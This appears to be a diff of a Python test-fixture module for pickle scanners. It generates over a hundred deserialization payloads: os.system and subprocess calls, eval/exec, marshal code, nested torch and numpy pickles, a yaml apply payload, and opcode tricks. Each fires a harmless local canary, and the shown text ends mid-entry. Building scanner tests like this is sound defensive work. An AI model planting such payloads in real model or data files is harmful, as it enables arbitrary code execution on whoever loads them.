@@ -1,17 +1,18 @@
-"""Pickles that do something when Python reads them, made on the spot: a hundred kinds, in every way to call.
+"""Pickles that do something when Python reads them: over a hundred kinds, in every way to call.
 
 Each touches something that can be seen from outside, its canary: a file in a folder, an
 environment variable, a connection to a socket. The kinds are the families on the test lists of
-picklescan and fickling, and more.
+picklescan and fickling, and more. They are written as Python expressions and never run as such:
+`assemble` turns an expression into opcodes. A name is split into module and name at its last
+dot, or where `|` stands: `(os | environ.update)(...)`.
 """
 
+import ast
 import marshal
-import os
 import pickle
 import struct
 import zipfile
-from collections.abc import Callable
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from io import BytesIO
 from pathlib import Path
 from typing import Any
@@ -19,33 +20,150 @@ from typing import Any
 STYLES = ("reduce2", "reduce4", "inst", "obj", "newobj", "newobj_ex")
 CONTAINERS = ("bare", "zip", "stream")
 
+# A line that begins with a dash needs a module, a system or an answer that may not be there.
+GADGETS = """
+  os.system(command)
+  posix.system(command)
+- nt.system(command)
+  os.popen(command)
+  os.execlp('touch', 'touch', file)
+  os.spawnlp(0, 'touch', 'touch', file)
+  os.posix_spawnp('touch', ['touch', file], {})
+  subprocess.Popen(['touch', file])
+  subprocess.run(['touch', file])
+  subprocess.check_output(['touch', file])
+  subprocess.getoutput(command)
+- commands.getoutput(command)
+  pty.spawn(['touch', file])
+  asyncio.run(asyncio.create_subprocess_shell(command))
+- (asyncio.unix_events | _UnixSubprocessTransport._start)({}, command, True, None, None, None)
+  multiprocessing.util.spawnv_passfds(b'/usr/bin/touch', ['touch', file], ())
+  imaplib.IMAP4_stream(command)
+  uuid._get_command_stdout('touch', file)
+  _osx_support._read_output(command)
+- _aix_support._read_cmd_output(command)
+- _pyrepl.pager.pipe_pager('', command)
+  pydoc.pipepager('', command)
+  webbrowser.open(file)
+  antigravity.geohash
+- test.support.script_helper.assert_python_ok('-c', source)
+  operator.methodcaller('system', command_bytes)(ctypes.CDLL(None))
+  builtins.eval(source)
+  builtins.exec(source)
+  builtins.exec(builtins.compile(source, 'x', 'exec'))
+  __builtin__.eval(source)
+- __builtin__.apply(os.system, (command,))
+  builtins.open(file, 'w')
+  builtins.getattr(builtins.__import__('os'), 'system')(command)
+  builtins.list(builtins.map(os.system, [command]))
+  builtins.list(builtins.filter(os.system, [command]))
+- builtins.globals()
+- builtins.breakpoint()
+- builtins.type('X', (), {})
+- builtins.bytearray(1000000000000)
+  functools.partial(os.system, command)()
+  functools.reduce(builtins.open, [file, 'w'])
+  operator.methodcaller('system', command)(importlib.import_module('os'))
+  _operator.attrgetter('system')(importlib.import_module('os'))(command)
+- operator.itemgetter('os')(sys.modules)()
+  builtins.list(itertools.starmap(os.system, [(command,)]))
+  types.FunctionType(code, {'__builtins__': importlib.import_module('builtins')})()
+- types.CodeType(0, 0, 0, 0, 0, 0)
+  builtins.exec(marshal.loads(code_bytes))
+  pkgutil.resolve_name('os:system')(command)
+  pydoc.locate('os.system')(command)
+  weakref.finalize(argparse.Namespace, os.system, command)
+  atexit.register(os.system, command)
+  (threading | Thread.start)(threading.Timer(0, os.system, [command]))
+- (contextlib | ExitStack.callback)(contextlib.ExitStack(), os.system, command)
+- copyreg._reconstructor(subprocess.Popen, builtins.object, None)
+  (argparse | _os.system)(command)
+  typing._eval_type(typing.ForwardRef(source), {}, {})
+- collections.defaultdict(os.system(command))
+  runpy.run_path(helper('script.py'))
+  runpy._run_code(code, {})
+  (code | InteractiveInterpreter.runcode)(code.InteractiveInterpreter(), code)
+  builtins.exec(codeop.compile_command(source))
+  timeit.timeit(source, 'pass', time.perf_counter, 1)
+  cProfile.run(source)
+  profile.run(source)
+  (trace | Trace.run)(trace.Trace(), source)
+  (bdb | Bdb.run)(bdb.Bdb(), source)
+- pdb.run(source)
+- doctest.debug_script(source, True)
+  (importlib.machinery | SourceFileLoader.load_module)(source_loader)
+  imp.load_source('canary_imp', helper('module.py'))
+  (zipimport | zipimporter.load_module)(zipimport.zipimporter(helper('code.zip')), 'inside')
+  idlelib.calltip.get_entity(source)
+- (idlelib.run | Executive.runcode)({}, code)
+  (lib2to3.pgen2.grammar | Grammar.loads)(lib2to3.pgen2.grammar.Grammar(), pickled)
+- pip.main(['--log', file, '--version'])
+- ensurepip._run_pip(['--version'])
+  venv.create(file)
+  logging.config.fileConfig(helper('logging.ini'))
+  logging.config.dictConfig(settings)
+  pickle.loads(pickled)
+  _pickle.loads(pickled)
+- torch.load(helper('nested.pt'))
+  torch.storage._load_from_bytes(pickled_stream)
+  numpy.load(helper('nested.npy'), None, True)
+- joblib.load(helper('nested.joblib'))
+- pandas.read_pickle(helper('nested.pkl'))
+- dill._dill.loads(pickled)
+- cloudpickle.cloudpickle._make_function(code, {}, 'f', (), ())
+  shelve.open(file)
+  yaml.unsafe_load(yaml_text)
+  torch.hub._load_local(helper_folder, 'entry')
+  torch.utils.collect_env.run(command)
+  torch.jit.unsupported_tensor_ops.execWrapper(source, {}, {})
+- torch.utils.bottleneck.__main__.run_cprofile(code, {})
+  (torch | UntypedStorage.from_file)(file, True, 16)
+- torch.storage.UntypedStorage(1000000000000)
+- torch.Tensor(1000000000000)
+- (torch._dynamo.guards | GuardBuilder.get)({}, source)
+- torch._inductor.codecache.compile_file('', '', ['touch', file])
+- torch.fx.graph_module.reduce_graph_module({}, '')
+- torch.distributed.TCPStore('127.0.0.1', port)
+- torch.ops.load_library(helper('lib.so'))
+  numpy.testing._private.utils.runstring(source, {})
+- numpy.f2py.crackfortran.getlincoef(source, {})
+  numpy.memmap(file, 'uint8', 'w+', 0, (4,))
+  numpy.savetxt(file, [1.0])
+  os.open(file, 65)
+  os.mkdir(file)
+  os.symlink('/nowhere', file)
+  io.FileIO(file, 'w')
+  _io.FileIO(file, 'w')
+  io.open(file, 'w')
+  codecs.open(file, 'w')
+  gzip.open(file, 'w')
+  zipfile.ZipFile(file, 'w')
+  sqlite3.connect(file)
+  shutil.copyfile(helper('a.py'), file)
+  (pathlib | Path.touch)(pathlib.PosixPath(file))
+  tempfile.mkstemp('', 'canary', folder)
+  logging.FileHandler(file)
+  distutils.file_util.write_file(file, ['x'])
+  (os | environ.update)({'CANARY': '1'})
+  os.putenv('CANARY_IN_C', '1')
+  socket.create_connection(('127.0.0.1', port))
+  (http.client | HTTPConnection.connect)(http.client.HTTPConnection('127.0.0.1', port))
+  urllib.request.urlopen(url)
+  (ftplib | FTP.connect)(ftplib.FTP(), '127.0.0.1', port)
+  smtplib.SMTP('127.0.0.1', port)
+  poplib.POP3('127.0.0.1', port)
+  ssl.get_server_certificate(('127.0.0.1', port))
+  telnetlib.Telnet('127.0.0.1', port)
+- requests.api.get(url)
+- os._exit(0)
+- sys.exit(0)
+""".strip("\n").splitlines()
 
-@dataclass(frozen=True)
-class Name:
-    """A global: module and name, which may be dotted."""
 
-    module: str
-    name: str
-
-
-@dataclass(frozen=True)
-class Call:
-    """A call of a global or of what another call gives."""
-
-    function: Any
-    args: tuple[Any, ...]
-
-
-def at(full_name: str) -> Name:
-    """`"os:environ.update"`, or `"os.system"` where the last dot divides."""
-    module, _, name = (
-        full_name.partition(":") if ":" in full_name else full_name.rpartition(".")
-    )
-    return Name(module, name)
-
-
-def call(function: Any, *args: Any) -> Call:
-    return Call(at(function) if isinstance(function, str) else function, args)
+SETTINGS = (
+    "{'version': 1, 'handlers': {'h': {'class': 'logging.FileHandler', 'filename': FILE}}}"
+)
+SOURCE_LOADER = "importlib.machinery.SourceFileLoader('canary', helper('module.py'))"
 
 
 @dataclass(frozen=True)
@@ -55,110 +173,159 @@ class Canary:
     folder: Path
     port: int = 1
 
-    @property
-    def file(self) -> str:
-        return str(self.folder / "touched")
-
-    @property
-    def command(self) -> str:
-        return f"touch {self.file}"
-
-    @property
-    def source(self) -> str:
-        return f"open({self.file!r}, 'w')"
-
-    @property
-    def code(self) -> Call:
-        return call("builtins.compile", self.source, "x", "exec")
-
-    @property
-    def pickled(self) -> bytes:
-        return b"\x80\x02" + assemble(call("os.system", self.command)) + b"."
-
-    @property
-    def host(self) -> tuple[str, int]:
-        return ("127.0.0.1", self.port)
+    def values(self) -> dict[str, Any]:
+        """The names in the expressions that stand for values."""
+        file = str(self.folder / "touched")
+        command, source = f"touch {file}", f"open({file!r}, 'w')"
+        pickled = b"\x80\x02cos\nsystem\n" + text(command) + b"\x85R."
+        return {
+            "file": file,
+            "folder": str(self.folder),
+            "command": command,
+            "command_bytes": command.encode(),
+            "source": source,
+            "code": ast.parse(f"builtins.compile({source!r}, 'x', 'exec')", mode="eval").body,
+            "source_loader": ast.parse(SOURCE_LOADER, mode="eval").body,
+            "settings": ast.parse(SETTINGS.replace("FILE", repr(file)), mode="eval").body,
+            "code_bytes": marshal.dumps(compile(source, "x", "exec")),
+            "pickled": pickled,
+            "pickled_stream": torch_stream(pickled),
+            "yaml_text": f"!!python/object/apply:os.system [{command!r}]",
+            "port": self.port,
+            "url": f"http://127.0.0.1:{self.port}/",
+            "helper_folder": str(Path(self.helper("hubconf.py")).parent),
+        }
 
     def helper(self, name: str) -> str:
-        """A file that a gadget wants to be there: a module, a pickle, settings."""
+        """A file that a gadget reads: a module, a pickle, settings."""
         path = self.folder.parent.parent / "helpers" / self.folder.name / name
         path.parent.mkdir(parents=True, exist_ok=True)
-        match path.suffix:
-            case ".py":
-                path.write_text(f"{self.source}\ndef entry():\n    return 1\n")
-            case ".zip":
-                with zipfile.ZipFile(path, "w") as archive:
-                    archive.writestr("inside.py", self.source)
-            case ".ini":
-                path.write_text(
-                    "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
-                    "[logger_root]\nhandlers=h\n[handler_h]\nclass=FileHandler\n"
-                    f"args=({self.file!r},)\n"
-                )
-            case _:
-                path.write_bytes(self.pickled)
+        file = str(self.folder / "touched")
+        source = f"open({file!r}, 'w')"
+        if path.suffix == ".py":
+            path.write_text(f"{source}\ndef entry():\n    return 1\n")
+        elif path.suffix == ".zip":
+            with zipfile.ZipFile(path, "w") as archive:
+                archive.writestr("inside.py", source)
+        elif path.suffix == ".ini":
+            path.write_text(
+                "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\n"
+                f"handlers=h\n[handler_h]\nclass=FileHandler\nargs=({file!r},)\n"
+            )
+        else:
+            path.write_bytes(b"\x80\x02cos\nsystem\n" + text(f"touch {file}") + b"\x85R.")
         return str(path)
 
 
-@dataclass(frozen=True)
-class Gadget:
-    """One kind. `fires` is False where Python needs a module, a system or an answer that may not be there."""
-
-    name: str
-    make: Callable[[Canary], Any] = field(repr=False)
-    fires: bool = True
-
-
-def _text(value: str) -> bytes:
+def text(value: str) -> bytes:
+    """Opcodes that push a text."""
     raw = value.encode()
     return b"X" + struct.pack("<I", len(raw)) + raw
 
 
-def _row(values: Any, style: str) -> bytes:
-    return b"".join(assemble(value, style) for value in values)
+def _push(value: Any, style: str, canary: Canary) -> bytes:
+    if isinstance(value, ast.AST):
+        return _assemble(value, style, canary)
+    if isinstance(value, bytes):
+        return b"B" + struct.pack("<I", len(value)) + value
+    return text(value) if isinstance(value, str) else pickle.dumps(value, 2)[2:-1]
 
 
-def assemble(value: Any, style: str = "reduce2") -> bytes:
-    """Opcodes that push the value, without a header and a STOP. Bytes come as they are: raw opcodes."""
-    match value:
-        case bytes():
-            return value
-        case Name(module, name) if style == "reduce4":
-            return _text(module) + _text(name) + b"\x93"
-        case Name(module, name):
-            return f"c{module}\n{name}\n".encode()
-        case Call(Name(module, name), args) if style == "inst":
-            return b"(" + _row(args, style) + f"i{module}\n{name}\n".encode()
-        case Call(function, args) if style == "obj":
-            return b"(" + assemble(function, style) + _row(args, style) + b"o"
-        case Call(function, args):
+def _global(module: str, name: str, style: str) -> bytes:
+    if style == "reduce4":
+        return text(module) + text(name) + b"\x93"
+    return f"c{module}\n{name}\n".encode()
+
+
+def _assemble(node: ast.AST, style: str, canary: Canary) -> bytes:
+    """Opcodes that push what the expression stands for."""
+
+    def row(nodes: Any) -> bytes:
+        return b"".join(_assemble(item, style, canary) for item in nodes)
+
+    match node:
+        case ast.Constant(value=value):
+            return _push(value, style, canary)
+        case ast.Name(id=name):
+            return _push(canary.values()[name], style, canary)
+        case ast.Tuple(elts=items):
+            return b"(" + row(items) + b"t"
+        case ast.List(elts=items):
+            return b"](" + row(items) + b"e"
+        case ast.Dict(keys=keys, values=values):
+            return (
+                b"}(" + row(x for pair in zip(keys, values, strict=True) for x in pair) + b"u"
+            )
+        case ast.BinOp(left=module, right=name):
+            return _global(ast.unparse(module), ast.unparse(name), style)
+        case ast.Attribute(value=module, attr=name):
+            return _global(ast.unparse(module), name, style)
+        case ast.Call(func=ast.Name(id="helper"), args=[ast.Constant(value=name)]):
+            return text(canary.helper(name))
+        case ast.Call(func=ast.Attribute(value=module, attr=name), args=args) if (
+            style == "inst"
+        ):
+            return b"(" + row(args) + f"i{ast.unparse(module)}\n{name}\n".encode()
+        case ast.Call(func=function, args=args) if style == "obj":
+            return b"(" + row([function, *args]) + b"o"
+        case ast.Call(func=function, args=args):
             how = {"newobj": b"\x81", "newobj_ex": b"}\x92"}.get(style, b"R")
-            return assemble(function, style) + assemble(args, style) + how
-        case str():
-            return _text(value)
-        case tuple():
-            return b"(" + _row(value, style) + b"t"
-        case list():
-            return b"](" + _row(value, style) + b"e"
-        case dict():
-            return b"}(" + _row([x for pair in value.items() for x in pair], style) + b"u"
-    return pickle.dumps(value, 2)[2:-1]
+            return row([function]) + b"(" + row(args) + b"t" + how
+    raise AssertionError(ast.dump(node))
 
 
-def raw_bytes(value: bytes) -> bytes:
-    """Opcodes that push bytes."""
-    return b"B" + struct.pack("<I", len(value)) + value
+def assemble(gadget: str, canary: Canary, style: str = "reduce2") -> bytes:
+    """A gadget's opcodes, without a header and a STOP."""
+    return _assemble(ast.parse(gadget, mode="eval").body, style, canary)
+
+
+def opcodes(canary: Canary) -> dict[str, bytes]:
+    """Gadgets that are no expression: tricks with the machine that reads pickles."""
+    touch = text(canary.values()["command"])
+    call = b"cos\nsystem\n" + touch + b"\x85R"
+    array = b"cnumpy.core.multiarray\n_reconstruct\n(cnumpy\nndarray\nK\0\x85B\1\0\0\0btR"
+    register = assemble("copyreg.add_extension('os', 'system', 200)", canary) + b"0"
+    return {
+        "another module in the place of sys": b"csys\nmodules\nq\x000h\0"
+        + text("sys")
+        + b"h\0scsys\nget\n"
+        + text("os")
+        + b"\x85Rq\x010h\0"
+        + text("sys")
+        + b"h\1scsys\nsystem\n"
+        + touch
+        + b"\x85R",
+        "__setstate__ by BUILD": b"cargparse\nNamespace\n)\x81}"
+        + text("__setstate__")
+        + b"cos\nsystem\nsb"
+        + touch
+        + b"b",
+        "EXT1": register + b"\x82\xc8" + touch + b"\x85R",
+        "EXT2": register + b"\x83\xc8\0" + touch + b"\x85R",
+        "EXT4": register + b"\x84\xc8\0\0\0" + touch + b"\x85R",
+        "call whose result is dropped": call + b"0N",
+        "call inside an array of objects": array
+        + b"(K\1K\1\x85cnumpy\ndtype\n"
+        + text("O8")
+        + b"\x89\x88\x87R\x89]("
+        + call
+        + b"etb",
+        "call as a key": b"}" + call + b"Ns",
+    }
+
+
+HARMLESS_TO_PYTHON = {  # and refused all the same
+    "PERSID": b"Ptouch\n",
+    "BINPERSID of a call": b"cos\nsystem\n" + text("true") + b"\x85RQ",
+    "text that is called": text("os.system") + b")R",
+    "memo that is empty": b"h\x63",
+}
 
 
 def whole(body: bytes, style: str = "reduce2") -> bytes:
     """A pickle of one value: header, body, STOP."""
-    header = {
-        "reduce4": b"\x80\x04",
-        "newobj": b"\x80\x02",
-        "reduce2": b"\x80\x02",
-        "newobj_ex": b"\x80\x04",
-    }
-    return header.get(style, b"") + body + b"."
+    protocol = {"inst": b"", "obj": b"", "reduce4": b"\x80\x04", "newobj_ex": b"\x80\x04"}
+    return protocol.get(style, b"\x80\x02") + body + b"."
 
 
 STORAGE = b"(X\7\0\0\0storagectorch\nFloatStorage\nX\1\0\0\x000X\3\0\0\0cpuK\2tQ"
@@ -167,12 +334,11 @@ TENSOR = (
     + STORAGE
     + b"K\0K\2\x85K\1\x85\x89ccollections\nOrderedDict\n)RtR"
 )
-STREAM_STORAGE = STORAGE.replace(b"K\2tQ", b"K\2NtQ")
 NUMBERS = struct.pack("<2f", 1.0, 2.0)
 
 
 def torch_zip(pickled: bytes, folder: str = "archive") -> bytes:
-    """The pickle as torch.save's zip holds it, with one storage of two numbers."""
+    """The pickle as torch.save's zip contains it, with one storage of two numbers."""
     buffer = BytesIO()
     with zipfile.ZipFile(buffer, "w") as archive:
         for name, data in (
@@ -187,13 +353,9 @@ def torch_zip(pickled: bytes, folder: str = "archive") -> bytes:
 
 def torch_stream(pickled: bytes) -> bytes:
     """The pickle as torch.save wrote it before 1.6."""
-    about = [
-        0x1950A86A20F9469CFC6C,
-        1001,
-        {"protocol_version": 1001, "little_endian": True, "type_sizes": {}},
-    ]
-    start = b"".join(pickle.dumps(value, 2) for value in about)
-    content = pickled.replace(STORAGE, STREAM_STORAGE)
+    machine = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
+    start = b"".join(pickle.dumps(x, 2) for x in (0x1950A86A20F9469CFC6C, 1001, machine))
+    content = pickled.replace(STORAGE, STORAGE.replace(b"K\2tQ", b"K\2NtQ"))
     return start + content + pickle.dumps(["0"], 2) + struct.pack("<q", 2) + NUMBERS
 
 
@@ -201,477 +363,5 @@ def in_container(body: bytes, style: str, container: str) -> bytes:
     """The value alone, or beside weights that are in order."""
     if container == "bare":
         return whole(body, style)
-    beside = b"}(" + _text("a") + TENSOR + _text("x") + body + b"u"
+    beside = b"}(" + text("a") + TENSOR + text("x") + body + b"u"
     return (torch_zip if container == "zip" else torch_stream)(whole(beside, style))
-
-
-def _modules_override(c: Canary) -> bytes:
-    """Put another module in the place of sys, then call by the name of sys."""
-    return (
-        b"csys\nmodules\nq\x000h\0"
-        + _text("sys")
-        + b"h\0scsys\nget\n"
-        + _text("os")
-        + b"\x85Rq\x010h\0"
-        + _text("sys")
-        + b"h\1scsys\nsystem\n"
-        + _text(c.command)
-        + b"\x85R"
-    )
-
-
-def _set_state(c: Canary) -> bytes:
-    """Give a harmless object a `__setstate__` that is none, then its state."""
-    return (
-        b"cargparse\nNamespace\n)\x81}"
-        + _text("__setstate__")
-        + b"cos\nsystem\nsb"
-        + _text(c.command)
-        + b"b"
-    )
-
-
-def _extension(opcode: bytes) -> Callable[[Canary], bytes]:
-    """Register os.system under a number, then call it by number."""
-    return lambda c: (
-        assemble(call("copyreg.add_extension", "os", "system", 200))
-        + b"0"
-        + opcode
-        + _text(c.command)
-        + b"\x85R"
-    )
-
-
-def _array(c: Canary) -> bytes:
-    """An array of objects, one of which is a call."""
-    array = call(
-        "numpy.core.multiarray._reconstruct", at("numpy.ndarray"), (0,), raw_bytes(b"b")
-    )
-    state = (
-        1,
-        (1,),
-        call("numpy.dtype", "O8", False, True),
-        False,
-        [call("os.system", c.command)],
-    )
-    return assemble(array) + assemble(state) + b"b"
-
-
-def _code_of(c: Canary) -> bytes:
-    """A code object as bytes. Marshal's format is that of the Python that runs this."""
-    return raw_bytes(marshal.dumps(compile(c.source, "x", "exec")))
-
-
-GADGETS = (
-    # the shell
-    Gadget("os.system", lambda c: call("os.system", c.command)),
-    Gadget("posix.system", lambda c: call("posix.system", c.command)),
-    Gadget("nt.system", lambda c: call("nt.system", c.command), fires=False),
-    Gadget("os.popen", lambda c: call("os.popen", c.command)),
-    Gadget("os.execlp", lambda c: call("os.execlp", "touch", "touch", c.file)),
-    Gadget("os.spawnlp", lambda c: call("os.spawnlp", 0, "touch", "touch", c.file)),
-    Gadget(
-        "os.posix_spawnp", lambda c: call("os.posix_spawnp", "touch", ["touch", c.file], {})
-    ),
-    Gadget("subprocess.Popen", lambda c: call("subprocess.Popen", ["touch", c.file])),
-    Gadget("subprocess.run", lambda c: call("subprocess.run", ["touch", c.file])),
-    Gadget(
-        "subprocess.check_output", lambda c: call("subprocess.check_output", ["touch", c.file])
-    ),
-    Gadget("subprocess.getoutput", lambda c: call("subprocess.getoutput", c.command)),
-    Gadget("commands.getoutput", lambda c: call("commands.getoutput", c.command), fires=False),
-    Gadget("pty.spawn", lambda c: call("pty.spawn", ["touch", c.file])),
-    Gadget(
-        "asyncio subprocess",
-        lambda c: call("asyncio.run", call("asyncio.create_subprocess_shell", c.command)),
-    ),
-    Gadget(
-        "asyncio transport",
-        lambda c: call(
-            "asyncio.unix_events:_UnixSubprocessTransport._start",
-            {},
-            c.command,
-            True,
-            None,
-            None,
-            None,
-            0,
-        ),
-        fires=False,
-    ),
-    Gadget(
-        "multiprocessing.util",
-        lambda c: call(
-            "multiprocessing.util.spawnv_passfds",
-            raw_bytes(b"/usr/bin/touch"),
-            ["touch", c.file],
-            (),
-        ),
-    ),
-    Gadget("imaplib.IMAP4_stream", lambda c: call("imaplib.IMAP4_stream", c.command)),
-    Gadget("uuid", lambda c: call("uuid._get_command_stdout", "touch", c.file)),
-    Gadget("_osx_support", lambda c: call("_osx_support._read_output", c.command)),
-    Gadget(
-        "_aix_support", lambda c: call("_aix_support._read_cmd_output", c.command), fires=False
-    ),
-    Gadget(
-        "_pyrepl.pager", lambda c: call("_pyrepl.pager.pipe_pager", "", c.command), fires=False
-    ),
-    Gadget("pydoc.pipepager", lambda c: call("pydoc.pipepager", "", c.command)),
-    Gadget("webbrowser.open", lambda c: call("webbrowser.open", c.file)),
-    Gadget("import that opens a browser", lambda c: at("antigravity.geohash")),
-    Gadget(
-        "test.support",
-        lambda c: call("test.support.script_helper.assert_python_ok", "-c", c.source),
-        fires=False,
-    ),
-    Gadget(
-        "ctypes.CDLL",
-        lambda c: call(
-            call("operator.methodcaller", "system", raw_bytes(c.command.encode())),
-            call("ctypes.CDLL", None),
-        ),
-    ),
-    # builtins
-    Gadget("eval", lambda c: call("builtins.eval", c.source)),
-    Gadget("exec", lambda c: call("builtins.exec", c.source)),
-    Gadget("compile", lambda c: call("builtins.exec", c.code)),
-    Gadget("Python 2's eval", lambda c: call("__builtin__.eval", c.source)),
-    Gadget(
-        "Python 2's apply",
-        lambda c: call("__builtin__.apply", at("os.system"), (c.command,)),
-        fires=False,
-    ),
-    Gadget("open", lambda c: call("builtins.open", c.file, "w")),
-    Gadget(
-        "__import__, getattr",
-        lambda c: call(
-            call("builtins.getattr", call("builtins.__import__", "os"), "system"), c.command
-        ),
-    ),
-    Gadget(
-        "map",
-        lambda c: call("builtins.list", call("builtins.map", at("os.system"), [c.command])),
-    ),
-    Gadget(
-        "filter",
-        lambda c: call("builtins.list", call("builtins.filter", at("os.system"), [c.command])),
-    ),
-    Gadget("globals", lambda c: call("builtins.globals"), fires=False),
-    Gadget("breakpoint", lambda c: call("builtins.breakpoint"), fires=False),
-    Gadget("type", lambda c: call("builtins.type", "X", (), {}), fires=False),
-    # ways to call and to reach
-    Gadget(
-        "functools.partial",
-        lambda c: call(call("functools.partial", at("os.system"), c.command)),
-    ),
-    Gadget(
-        "functools.reduce",
-        lambda c: call("functools.reduce", at("builtins.open"), [c.file, "w"]),
-    ),
-    Gadget(
-        "operator.methodcaller",
-        lambda c: call(
-            call("operator.methodcaller", "system", c.command),
-            call("importlib.import_module", "os"),
-        ),
-    ),
-    Gadget(
-        "_operator.attrgetter",
-        lambda c: call(
-            call(call("_operator.attrgetter", "system"), call("importlib.import_module", "os")),
-            c.command,
-        ),
-    ),
-    Gadget(
-        "operator.itemgetter",
-        lambda c: call(
-            call(call("operator.itemgetter", "os"), at("sys.modules")),
-        ),
-        fires=False,
-    ),
-    Gadget(
-        "itertools.starmap",
-        lambda c: call(
-            "builtins.list", call("itertools.starmap", at("os.system"), [(c.command,)])
-        ),
-    ),
-    Gadget(
-        "types.FunctionType",
-        lambda c: call(
-            call(
-                "types.FunctionType",
-                c.code,
-                {"__builtins__": call("importlib.import_module", "builtins")},
-            )
-        ),
-    ),
-    Gadget("types.CodeType", lambda c: call("types.CodeType", 0, 0, 0, 0, 0, 0), fires=False),
-    Gadget(
-        "marshal.loads", lambda c: call("builtins.exec", call("marshal.loads", _code_of(c)))
-    ),
-    Gadget(
-        "pkgutil.resolve_name",
-        lambda c: call(call("pkgutil.resolve_name", "os:system"), c.command),
-    ),
-    Gadget("pydoc.locate", lambda c: call(call("pydoc.locate", "os.system"), c.command)),
-    Gadget(
-        "weakref.finalize",
-        lambda c: call(
-            "weakref.finalize", at("argparse.Namespace"), at("os.system"), c.command
-        ),
-    ),
-    Gadget("atexit.register", lambda c: call("atexit.register", at("os.system"), c.command)),
-    Gadget(
-        "threading.Timer",
-        lambda c: call(
-            "threading:Thread.start", call("threading.Timer", 0, at("os.system"), [c.command])
-        ),
-    ),
-    Gadget(
-        "contextlib",
-        lambda c: call(
-            "contextlib:ExitStack.callback",
-            call("contextlib.ExitStack"),
-            at("os.system"),
-            c.command,
-        ),
-        fires=False,
-    ),
-    Gadget(
-        "copyreg._reconstructor",
-        lambda c: call(
-            "copyreg._reconstructor", at("subprocess.Popen"), at("builtins.object"), None
-        ),
-        fires=False,
-    ),
-    Gadget("another module as sys", _modules_override),
-    Gadget("__setstate__ by BUILD", _set_state),
-    Gadget("EXT1", _extension(b"\x82\xc8")),
-    Gadget("EXT2", _extension(b"\x83\xc8\x00")),
-    Gadget("EXT4", _extension(b"\x84\xc8\x00\x00\x00")),
-    Gadget("PERSID", lambda c: b"Ptouch\n", fires=False),
-    Gadget(
-        "BINPERSID of a call",
-        lambda c: assemble(call("os.system", c.command)) + b"Q",
-        fires=False,
-    ),
-    Gadget(
-        "call whose result is dropped", lambda c: assemble(call("os.system", c.command)) + b"0N"
-    ),
-    Gadget(
-        "name reached through a harmless module",
-        lambda c: call("argparse:_os.system", c.command),
-    ),
-    Gadget(
-        "function of a harmless module",
-        lambda c: call("typing._eval_type", call("typing.ForwardRef", c.source), {}, {}),
-    ),
-    Gadget("gadget inside an array of objects", _array),
-    Gadget(
-        "gadget inside a defaultdict",
-        lambda c: call("collections.defaultdict", call("os.system", c.command)),
-        fires=False,
-    ),
-    Gadget("gadget as a key", lambda c: b"}" + assemble(call("os.system", c.command)) + b"Ns"),
-    Gadget("text that is called", lambda c: _text("os.system") + b")R", fires=False),
-    Gadget("memo that is empty", lambda c: b"h\x63", fires=False),
-    # running Python
-    Gadget("runpy.run_path", lambda c: call("runpy.run_path", c.helper("script.py"))),
-    Gadget("runpy._run_code", lambda c: call("runpy._run_code", c.code, {})),
-    Gadget(
-        "code",
-        lambda c: call(
-            "code:InteractiveInterpreter.runcode", call("code.InteractiveInterpreter"), c.code
-        ),
-    ),
-    Gadget("codeop", lambda c: call("builtins.exec", call("codeop.compile_command", c.source))),
-    Gadget(
-        "timeit.timeit",
-        lambda c: call("timeit.timeit", c.source, "pass", at("time.perf_counter"), 1),
-    ),
-    Gadget("cProfile.run", lambda c: call("cProfile.run", c.source)),
-    Gadget("profile.run", lambda c: call("profile.run", c.source)),
-    Gadget("trace.Trace", lambda c: call("trace:Trace.run", call("trace.Trace"), c.source)),
-    Gadget("bdb.Bdb", lambda c: call("bdb:Bdb.run", call("bdb.Bdb"), c.source)),
-    Gadget("pdb.run", lambda c: call("pdb.run", c.source), fires=False),
-    Gadget(
-        "doctest.debug_script",
-        lambda c: call("doctest.debug_script", c.source, True),
-        fires=False,
-    ),
-    Gadget(
-        "importlib loader",
-        lambda c: call(
-            "importlib.machinery:SourceFileLoader.load_module",
-            call(
-                "importlib.machinery.SourceFileLoader", "canary_module", c.helper("module.py")
-            ),
-        ),
-    ),
-    Gadget(
-        "imp.load_source",
-        lambda c: call("imp.load_source", "canary_imp", c.helper("module.py")),
-    ),
-    Gadget(
-        "zipimport",
-        lambda c: call(
-            "zipimport:zipimporter.load_module",
-            call("zipimport.zipimporter", c.helper("code.zip")),
-            "inside",
-        ),
-    ),
-    Gadget("idlelib.calltip", lambda c: call("idlelib.calltip.get_entity", c.source)),
-    Gadget(
-        "idlelib.run", lambda c: call("idlelib.run:Executive.runcode", {}, c.code), fires=False
-    ),
-    Gadget(
-        "lib2to3 grammar",
-        lambda c: call(
-            "lib2to3.pgen2.grammar:Grammar.loads",
-            call("lib2to3.pgen2.grammar.Grammar"),
-            raw_bytes(c.pickled),
-        ),
-    ),
-    Gadget("pip.main", lambda c: call("pip.main", ["--log", c.file, "--version"]), fires=False),
-    Gadget("ensurepip", lambda c: call("ensurepip._run_pip", ["--version"]), fires=False),
-    Gadget("venv.create", lambda c: call("venv.create", c.file)),
-    Gadget(
-        "logging.config, settings",
-        lambda c: call("logging.config.fileConfig", c.helper("logging.ini")),
-    ),
-    Gadget(
-        "logging.config, dictionary",
-        lambda c: call(
-            "logging.config.dictConfig",
-            {
-                "version": 1,
-                "handlers": {"h": {"class": "logging.FileHandler", "filename": c.file}},
-            },
-        ),
-    ),
-    # pickles in pickles
-    Gadget("pickle.loads", lambda c: call("pickle.loads", raw_bytes(c.pickled))),
-    Gadget("_pickle.loads", lambda c: call("_pickle.loads", raw_bytes(c.pickled))),
-    Gadget("torch.load", lambda c: call("torch.load", c.helper("nested.pt")), fires=False),
-    Gadget(
-        "torch.storage._load_from_bytes",
-        lambda c: call("torch.storage._load_from_bytes", raw_bytes(torch_stream(c.pickled))),
-    ),
-    Gadget("numpy.load", lambda c: call("numpy.load", c.helper("nested.npy"), None, True)),
-    Gadget(
-        "joblib.load", lambda c: call("joblib.load", c.helper("nested.joblib")), fires=False
-    ),
-    Gadget(
-        "pandas.read_pickle",
-        lambda c: call("pandas.read_pickle", c.helper("nested.pkl")),
-        fires=False,
-    ),
-    Gadget("dill", lambda c: call("dill._dill.loads", raw_bytes(c.pickled)), fires=False),
-    Gadget(
-        "cloudpickle",
